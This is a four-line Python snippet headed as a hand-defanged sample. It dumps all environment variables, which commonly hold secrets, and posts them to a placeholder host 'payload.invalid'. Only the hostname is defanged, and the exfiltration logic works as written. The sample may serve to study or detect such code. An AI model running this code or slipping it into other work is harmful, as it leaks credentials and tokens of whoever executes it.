# Defanged sample: nothing here is reached or run; defanged by hand.
import json, os, urllib.request
data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen('https://payload.invalid/x', data)
